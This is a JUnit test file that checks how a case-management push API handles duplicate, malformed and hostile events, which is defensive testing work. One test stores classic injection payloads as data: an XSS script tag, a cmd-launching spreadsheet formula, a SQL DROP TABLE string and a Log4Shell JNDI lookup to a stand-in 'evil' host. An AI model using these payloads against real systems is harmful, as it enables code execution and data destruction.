package se.insyn.local.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import se.insyn.domain.testing.Push;
import se.insyn.local.Browser;
import se.insyn.local.Json;
import se.insyn.local.LocalInsyn;

/**
 * The table of pushes: G01, G04, G06, G14, G15, G17–G19. G16 is in HostileBodiesTest. G02, G03:
 * PushOrderTest of caseworker-api. E02–E04, E07, E12, E14: PersonalIdentityNumberTest and
 * WrittenNumbersTest of the domain, LogLineTest of http, test_repository.py. E11: CasePushTest
 * (another number is another human).
 */
class PushAttacksTest {
  private static final LocalInsyn INSYN = LocalInsyn.shared();

  private Office office = Office.lifecare();

  @BeforeEach
  void startOver() {
    office = People.startOver();
  }

  @Test
  @DisplayName("G01: the same event 50 times at once and once more is one fact and one act")
  void theSameEventManyTimesIsOneFact() throws Exception {
    int before = StoredItems.items("AUDIT_TABLE").size();
    var event = office.event(People.decision("A-1", "BES-G"));
    var results = new ArrayList<String>();
    try (var clients = Executors.newFixedThreadPool(50)) {
      Callable<String> push =
          () -> String.valueOf(Json.object(office.pushRaw(event).body()).get("result"));
      for (var future : clients.invokeAll(java.util.Collections.nCopies(50, push))) {
        results.add(future.get());
      }
    }
    results.add(office.result(People.decision("A-1", "BES-G")));
    assertThat(results).filteredOn("applied"::equals).hasSize(1);
    assertThat(results).filteredOn("duplicate"::equals).hasSize(50);
    assertThat(facts("A-1")).filteredOn(fact -> "BES-G".equals(fact.get("id"))).hasSize(1);
    assertThat(StoredItems.items("AUDIT_TABLE")).hasSize(before + 1);
  }

  @Test
  @DisplayName("G04: after a gap the higher version stands, and what was left out is stale")
  void aGapBetweenVersionsIsNone() {
    var decision = People.decision("A-1", "BES-G");
    assertThat(office.result(decision)).isEqualTo("applied");
    assertThat(office.result(decision.with("version", 3).with("decision", "Tre")))
        .isEqualTo("applied");
    assertThat(office.result(decision.with("version", 2).with("decision", "Två")))
        .isEqualTo("stale");
    assertThat(detail("BES-G")).containsEntry("decision", "Tre");
    Refusal.of(() -> office.push(decision.with("version", 3).with("decision", "Fyra")))
        .isProblem(409, "version-conflict", "version-conflict");
  }

  @ParameterizedTest(name = "G06: version {0}")
  @ValueSource(
      strings = {
        "0",
        "-1",
        "9007199254740992",
        "\"5\"",
        "1.5",
        "true",
        "[1]",
        "{}",
        "null",
        "1e400"
      })
  void aVersionThatIsNoneIsRefused(String version) {
    var event =
        office
            .event(People.decision("A-1", "BES-G"))
            .replace("\"version\":1", "\"version\":" + version);
    assertThat(event).contains("\"version\":" + version);
    var answer = Refusal.of(() -> office.pushRaw(event)).answer();
    assertThat(answer.statusCode()).isIn(400, 422);
    assertThat(answer.body()).contains(answer.statusCode() == 422 ? "/data/version" : "malformed");
  }

  @Test
  @DisplayName("G14: of a batch of 25 with one bad event the others stand")
  void aBadEventInABatchTouchesNoOther() {
    var pushes = new ArrayList<Push>();
    for (int i = 0; i < 25; i++) {
      pushes.add(People.decision("A-1", "BES-" + i + "B"));
    }
    pushes.set(12, pushes.get(12).with("outcome", "perhaps"));
    var answer = office.pushAll(pushes.toArray(Push[]::new));
    var results = Answers.list(answer, "results");
    assertThat(results).hasSize(25);
    for (int i = 0; i < 25; i++) {
      assertThat((Map<?, ?>) results.get(i))
          .extracting("result")
          .isEqualTo(i == 12 ? "rejected" : "applied");
    }
    assertThat(facts("A-1")).hasSize(25);
  }

  @Test
  @DisplayName("G15: an unknown member is named and ignored, an unknown word or type refused")
  void whatIsNotKnownIsNamedOrRefused() {
    var known = People.decision("A-1", "BES-G");
    assertThat(Json.object(office.push(known.with("colour", "red")).body()))
        .containsEntry("ignored", List.of("/data/colour"));
    invalid(known.with("version", 2).with("outcome", "perhaps"), "/data/outcome");
    var event = office.event(known).replace("se.insyn.decision.v1", "se.insyn.horoscope.v1");
    Refusal.of(() -> office.pushRaw(event)).isProblem(422, "invalid-members", "invalid-members");
  }

  @Test
  @DisplayName("G17: emoji, direction marks, markup and formulas are stored and shown as they came")
  void oddTextsAreShownAsTheyCame() {
    var odd =
        List.of(
            "🏠👨‍👩‍👧",
            "\u202Egnp.exe",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "'; DROP TABLE cases; --",
            "{{7*7}}",
            "${jndi:ldap://evil}",
            "a\u0301å",
            "\\u0000");
    int version = 1;
    for (var text : odd) {
      office.applies(
          People.decision("A-1", "BES-G").with("version", version++).with("decision", text));
      assertThat(detail("BES-G")).containsEntry("decision", text);
    }
    var lone = office.event(People.decision("A-1", "BES-H")).replace("Strukturerat", "\\ud800");
    assertThat(lone).contains("\\ud800");
    var answer = Refusal.of(() -> office.pushRaw(lone)).answer();
    assertThat(answer.statusCode()).isIn(400, 422);
    var nul = office.event(People.decision("A-1", "BES-H")).replace("Strukturerat", "\\u0000");
    assertThat(Refusal.of(() -> office.pushRaw(nul)).answer().statusCode()).isIn(400, 422);
  }

  @ParameterizedTest(name = "G18: {0} {1}")
  @CsvSource({
    "registeredAt,2026-11-20T08:12:00",
    "registeredAt,2026-11-20",
    "registeredAt,9999999-01-01T00:00:00Z",
    "registeredAt,2026-11-20T25:00:00Z",
    "date,9999-01-01",
    "date,1899-12-31",
    "date,2026-02-30",
    "date,2026-11-20T00:00:00Z",
    "date,20/11/2026"
  })
  void aTimeThatIsNoneIsRefused(String member, String value) {
    invalid(People.decision("A-1", "BES-G").with(member, value), "/data/" + member);
  }

  @Test
  @DisplayName(
      "G18: an instant in the hour that summer time leaves out, and a day to come, are taken")
  void anInstantInTheGapIsTaken() {
    office.applies(
        People.decision("A-1", "BES-G").with("registeredAt", "2026-03-29T01:30:00Z"),
        People.decision("A-1", "BES-H").with("date", "2199-12-31"));
  }

  @Test
  @DisplayName("G19: a case of a person who never logged in is there at the first login")
  void aCaseOfSomebodyNewIsThereAtTheFirstLogin() {
    assertThat(INSYN.loggedIn(People.MATTIAS).isLoggedIn()).isFalse();
    office.applies(People.caseOf("C-1", People.MATTIAS), People.decision("C-1", "BES-1"));
    assertThat(INSYN.loggedIn(People.MATTIAS).get("/api/events").body()).contains("C-1", "BES-1");
  }

  private void invalid(Push push, String pointer) {
    var refusal =
        Refusal.of(() -> office.push(push)).isProblem(422, "invalid-members", "invalid-members");
    assertThat(refusal.answer().body()).contains("\"pointer\":\"" + pointer + "\"");
  }

  private List<Map<?, ?>> facts(String caseNumber) {
    return Answers.list(office.readBack(caseNumber, "&limit=100"), "facts");
  }

  private static Map<String, Object> detail(String id) {
    Browser browser = INSYN.loggedIn(People.ELIAS);
    var caseId = Routes.caseId(browser, "A-1");
    return Json.object(browser.get("/api/cases/" + caseId + "/events/" + id).body());
  }
}
